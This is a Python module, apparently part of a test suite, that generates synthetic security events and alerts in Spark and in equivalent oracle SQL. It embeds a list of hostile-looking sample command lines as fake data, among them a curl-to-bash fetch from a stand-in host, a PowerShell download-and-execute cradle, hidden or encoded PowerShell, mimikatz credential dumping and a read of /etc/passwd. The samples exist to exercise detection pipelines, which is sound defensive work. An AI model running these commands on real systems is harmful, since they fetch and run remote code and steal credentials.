"""Security-shaped views over the driver tables, once for Spark and once as oracle SQL.

The column rules are plain SQL that both engines read; only string literals and
three functions differ, and ``_Dialect`` supplies those.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tracewell import fixed_values as V
from tracewell.schema import EVENT_COLUMNS
from tracewell.session import use_utc


class _Dialect:
    def __init__(self, spark: bool) -> None:
        self.spark = spark

    def lit(self, text: str) -> str:
        quoted = "'" + text.replace("'", "''") + "'"
        return ("r" + quoted) if self.spark and "\\" in text else quoted

    def sha(self, expr: str) -> str:
        return f"sha2(CAST({expr} AS STRING), 256)" if self.spark else f"sha256(CAST({expr} AS VARCHAR))"

    def pick(self, index: str, values: list[str | int]) -> str:
        arms = " ".join(
            f"WHEN {n} THEN {self.lit(v) if isinstance(v, str) else v}" for n, v in enumerate(values)
        )
        return f"CASE {index} {arms} END"


PROCESS_NAMES = [
    "C:\\Windows\\explorer.exe", "C:\\Office\\WINWORD.EXE", "C:\\Windows\\System32\\powershell.exe",
    "cmd.exe", "schtasks.exe", "whoami.exe", "vssadmin.exe", "rclone.exe", "certutil.exe",
    "mimikatz.exe", "bash", "python.exe",
]
PORTS = [443, 80, 53, 4444, 8080, 445, 3389, 22]
COMMANDS = [
    "powershell -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=",
    "powershell -w hidden -exec bypass",
    "iex (New-Object Net.WebClient).DownloadString(x)",
    "invoke-mimikatz sekurlsa",
    "curl http://drop.test/a | bash",
    "chmod +x /tmp/a",
    "crontab -e",
    "cat /etc/passwd",
    "whoami /priv",
    "notepad readme.txt",
]
CLOUD_ACTIONS = ["AssumeRole", "GetObject", "GetSecretValue", "ConsoleLogin"]


def _event_rules(d: _Dialect) -> tuple[dict[str, str], dict[str, str]]:
    """(first step, second step): the second may use the columns of the first."""
    cls = (
        "CASE event_type WHEN 'error' THEN CASE WHEN k >= 95 THEN 2004 ELSE 1007 END "
        "WHEN 'click' THEN CASE k % 4 WHEN 0 THEN 4003 WHEN 1 THEN 4002 ELSE 4001 END "
        "WHEN 'signup' THEN 3002 WHEN 'purchase' THEN 1001 "
        "ELSE CASE WHEN k % 2 = 0 THEN 201001 ELSE 201002 END END"
    )
    host = "CASE u % 10 WHEN 0 THEN 'DC01' WHEN 5 THEN 'SRV05' ELSE 'H' || CAST(u % 10 AS STRING) END"
    first = {"i": "i", "u": "u", "k": "k", "ts": "ts", "event_type": "event_type", "class_uid": cls, "host": host}
    has_process = "class_uid IN (1007, 4001, 4002, 1001, 201001, 201002)"
    has_dst = "(class_uid IN (4001, 4002, 4003) OR (class_uid = 1007 AND i % 4 = 0))"
    hive = d.lit("HKCU\\Software\\CurrentVersion\\Run\\K")
    service = d.lit("HKLM\\System\\Services\\K")
    second = {
        "event_id": "'e' || lpad(CAST(i AS STRING), 12, '0')",
        "source_type": "CASE WHEN class_uid = 3002 AND k % 7 = 0 THEN 'cloudtrail' ELSE 'sensor' END",
        "raw_data": (
            "CASE WHEN class_uid = 1007 THEN '{\"CommandLine\": \"' || " + d.pick("k % 10", COMMANDS) + " || '\"}' "
            "WHEN class_uid = 4002 AND k % 3 = 0 THEN '{\"url\": \"/submit.php\"}' ELSE '{}' END"
        ),
        "timestamp": "ts",
        "class_uid": "class_uid",
        "activity_id": "0",
        "activity_name": (
            "CASE WHEN class_uid = 3002 AND k % 7 = 0 THEN " + d.pick("k % 4", CLOUD_ACTIONS) +
            " WHEN class_uid = 3002 AND k % 3 = 0 THEN 'Logon Failed' WHEN class_uid = 3002 THEN 'Logon Success' "
            "ELSE event_type END"
        ),
        "severity_id": "0",
        "status_id": "0",
        "host": "host",
        "user": "'u' || CAST(u AS STRING)",
        "process_name": f"CASE WHEN {has_process} THEN {d.pick('k % 12', PROCESS_NAMES)} END",
        "process_pid": f"CASE WHEN {has_process} THEN 1 + k % 20 END",
        "process_guid": "CASE WHEN class_uid = 1007 AND k % 3 = 0 "
                        "THEN 'G-' || host || '-' || CAST(1 + k % 20 AS STRING) END",
        "parent_process_name": f"CASE WHEN class_uid = 1007 THEN {d.pick('(i * 7) % 12', PROCESS_NAMES)} END",
        "parent_process_pid": "CASE WHEN class_uid = 1007 THEN CAST(1 + i % 20 AS INT) END",
        "parent_process_guid": "CASE WHEN class_uid = 1007 AND i % 3 = 0 "
                               "THEN 'G-' || host || '-' || CAST(1 + i % 20 AS STRING) END",
        "file_path": "CASE WHEN class_uid = 1001 THEN '/tmp/f' || CAST(k AS STRING) || "
                     "CASE i % 3 WHEN 0 THEN '.ps1' WHEN 1 THEN '.lnk' ELSE '.docx' END END",
        "file_hash": f"CASE WHEN class_uid = 1001 THEN {d.sha('k')} END",
        "src_ip": "CASE WHEN class_uid IN (4001, 4002, 4003, 3002) THEN '10.0.0.' || CAST(u % 50 AS STRING) END",
        "src_port": "CAST(NULL AS INT)",
        "dst_ip": f"CASE WHEN {has_dst} THEN CASE WHEN k % 5 = 0 THEN '10.0.0.' || CAST(k % 50 AS STRING) "
                  "ELSE '203.0.113.' || CAST(k % 40 AS STRING) END END",
        "dst_port": f"CASE WHEN {has_dst} THEN {d.pick('k % 8', PORTS)} END",
        "protocol": "CASE WHEN class_uid IN (4001, 4002, 4003) THEN CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END END",
        "domain": "CASE WHEN class_uid = 4003 THEN CASE WHEN k > 80 THEN '" + "x" * 48 +
                  ".t' || CAST(k AS STRING) || '.example.net' ELSE 'd' || CAST(k AS STRING) || '.example.net' END END",
        "registry_key": f"CASE WHEN class_uid = 201001 THEN {hive} || CAST(k AS STRING) "
                        f"WHEN class_uid = 201002 THEN {service} || CAST(k AS STRING) END",
        "session_id": "CASE WHEN class_uid = 3002 THEN 'S' || CAST(u AS STRING) END",
        "auth_id": "CASE WHEN class_uid = 3002 THEN 'L' || CAST(k AS STRING) END",
        "seq": "i",
        "incident_id": "host",
        "table_name": "CASE WHEN class_uid IN (1006, 1007) THEN 'processes' WHEN class_uid IN (4001, 4002, 4003) "
                      "THEN 'network' WHEN class_uid = 3002 THEN 'auth' WHEN class_uid = 1001 THEN 'files' "
                      "WHEN class_uid IN (201001, 201002) THEN 'registry' ELSE 'events' END",
    }
    assert [c for c in second if c != "table_name"] == EVENT_COLUMNS
    return first, second


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    use_utc(spark)
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def spread(df: DataFrame) -> DataFrame:
    """The rows over all cores: the test tables are files of one row group each, that is, one task."""
    if df.isStreaming:
        return df
    spark = df.sparkSession
    return df.repartition(max(spark.sparkContext.defaultParallelism, int(spark.conf.get("spark.sql.shuffle.partitions"))))


def base_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    events = spread(table(spark, sf_dir, "events"))
    return events.selectExpr(
        "event_id AS i", "user_id AS u", "CAST(get_json_object(props, '$.k') AS INT) AS k",
        "CAST(ts AS TIMESTAMP) AS ts", "event_type", "value",
    )


def sec_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events in the canonical schema, plus ``table_name``; one scan, no shuffle."""
    first, second = _event_rules(_Dialect(spark=True))
    step = base_events(spark, sf_dir).selectExpr(*[f"{e} AS {n}" for n, e in first.items()])
    return step.selectExpr(*[f"{e} AS {n}" for n, e in second.items()])


_FIRST, _SECOND = _event_rules(_Dialect(spark=False))
BASE_CTE = (
    "base AS (SELECT event_id AS i, user_id AS u, CAST(json_extract_string(props, '$.k') AS INT) AS k, ts, "
    "event_type, value FROM events)"
)
SEC_EVENTS_CTE = (
    BASE_CTE
    + ", step AS (SELECT " + ", ".join(f"{e} AS {n}" for n, e in _FIRST.items()) + " FROM base)"
    + ", sec_events AS (SELECT " + ", ".join(f'{e} AS "{n}"' for n, e in _SECOND.items()) + " FROM step)"
)


def oracle(body: str, *ctes: str, recursive: bool = False) -> str:
    """Oracle SQL: the event views, further CTEs, then ``body``."""
    return f"WITH {'RECURSIVE ' if recursive else ''}" + ", ".join([SEC_EVENTS_CTE, *ctes]) + " " + body


# --------------------------------------------------------------------------- printing

TS_FORMAT = "yyyy-MM-dd HH:mm:ss.SSSSSS"


def ts_text(df: DataFrame, *columns: str) -> DataFrame:
    """Timestamps as text, so that both engines print the same thing."""
    for c in columns:
        df = df.withColumn(c, F.date_format(c, TS_FORMAT))
    return df


def sql_ts(expr: str, name: str) -> str:
    return f"strftime({expr}, '%Y-%m-%d %H:%M:%S.%f') AS {name}"


# --------------------------------------------------------------------------- other derived inputs


def alert_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Raw alert documents derived from error events: (raw, seq); ids repeat on purpose."""
    return base_events(spark, sf_dir).filter("event_type = 'error'").selectExpr(
        "CASE k % 3 "
        "WHEN 0 THEN to_json(named_struct('id', 'a' || CAST(i % 500 AS STRING), 'title', 'Alert ' || CAST(k AS STRING),"
        " 'description', 'beacon to 203.0.113.' || CAST(k % 40 AS STRING) || ' c2-' || CAST(k AS STRING) || '[.]evil[.]net',"
        " 'severity', upper(CASE k % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END),"
        " 'timestamp', date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss'Z'\"), 'host', 'H' || CAST(u % 10 AS STRING),"
        " 'user', 'u' || CAST(u AS STRING), 'tags', array('t' || CAST(k % 5 AS STRING), 'x'))) "
        "WHEN 1 THEN to_json(named_struct('alert_id', 'a' || CAST(i % 500 AS STRING), 'name', 'Rule hit ' || CAST(k AS STRING),"
        " 'message', 'see CVE-2024-' || CAST(1000 + k AS STRING), 'level', 'High', '@timestamp', unix_seconds(ts),"
        " 'hostname', 'H' || CAST(u % 10 AS STRING), 'username', 'u' || CAST(u AS STRING), 'rule', 'r' || CAST(k AS STRING))) "
        "ELSE to_json(named_struct('_id', 'a' || CAST(i % 500 AS STRING), 'rule_name', 'Named ' || CAST(k AS STRING),"
        " 'device', 'H' || CAST(u % 10 AS STRING), 'rule_id', 'R' || CAST(k AS STRING))) END AS raw",
        "i AS seq",
    )


# the same alerts, as the values that normalization must produce
ALERTS_CTE = (
    "alerts AS (SELECT 'a' || CAST(i % 500 AS VARCHAR) AS id, "
    "CASE k % 3 WHEN 0 THEN 'Alert ' WHEN 1 THEN 'Rule hit ' ELSE 'Named ' END || CAST(k AS VARCHAR) AS title, "
    "CASE k % 3 WHEN 0 THEN 'beacon to 203.0.113.' || CAST(k % 40 AS VARCHAR) || ' c2-' || CAST(k AS VARCHAR) || '[.]evil[.]net' "
    "WHEN 1 THEN 'see CVE-2024-' || CAST(1000 + k AS VARCHAR) END AS description, "
    "CASE k % 3 WHEN 0 THEN CASE k % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END "
    "WHEN 1 THEN 'high' ELSE 'medium' END AS severity, "
    "CASE WHEN k % 3 = 2 THEN TIMESTAMP '2024-03-01 00:00:00' ELSE date_trunc('second', ts) END AS timestamp, "
    "'H' || CAST(u % 10 AS VARCHAR) AS host, CASE WHEN k % 3 < 2 THEN 'u' || CAST(u AS VARCHAR) END AS \"user\", "
    "CASE WHEN k % 3 = 2 THEN 'R' || CAST(k AS VARCHAR) END AS rule_id, "
    "CASE k % 3 WHEN 1 THEN 'r' || CAST(k AS VARCHAR) WHEN 2 THEN 'Named ' || CAST(k AS VARCHAR) END AS rule_name, "
    "CASE WHEN k % 3 = 0 THEN 't' || CAST(k % 5 AS VARCHAR) || ',x' ELSE '' END AS tags, i AS seq "
    "FROM base WHERE event_type = 'error')"
)
